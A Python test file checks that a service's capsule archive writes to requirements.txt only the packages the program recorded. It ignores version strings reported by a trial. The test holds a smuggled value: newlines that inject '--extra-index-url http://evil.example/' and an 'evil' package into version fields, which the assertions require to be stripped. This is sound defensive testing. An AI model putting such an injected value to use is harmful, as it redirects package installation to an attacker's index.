"""The list of packages in a capsule installs what this program has noted, whatever a trial's process said of itself."""

import dataclasses
import io
import zipfile

from service.reports import Results
from service.reports.capsule import capsule_of
from service.storage.provenance import PACKAGES, checked

EVIL = "\n--extra-index-url http://evil.example/\nevil"


def test_what_a_trial_says_of_its_packages_adds_no_line(results: Results) -> None:
    [(digest, origin)] = results.provenances.items()
    said = {"python": f"3.11{EVIL}", "pernodedrop": f"1{EVIL}", "torch": f"2.0+cpu{EVIL}", "numpy": "1.26", "evil": "1"}
    # As a worker hears it over the trial's line, and as a row of an earlier release has it.
    for heard in (checked({**origin, PACKAGES: said}), {**origin, PACKAGES: said}):
        capsule = capsule_of(dataclasses.replace(results, provenances={digest: heard}))
        lines = read_requirements(capsule)
        assert [line for line in lines if not line.startswith("#")] == ["numpy==1.26"]
        assert all("evil" not in line for line in lines)


def read_requirements(capsule: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(capsule)) as archive:
        return archive.read("requirements.txt").decode().splitlines()
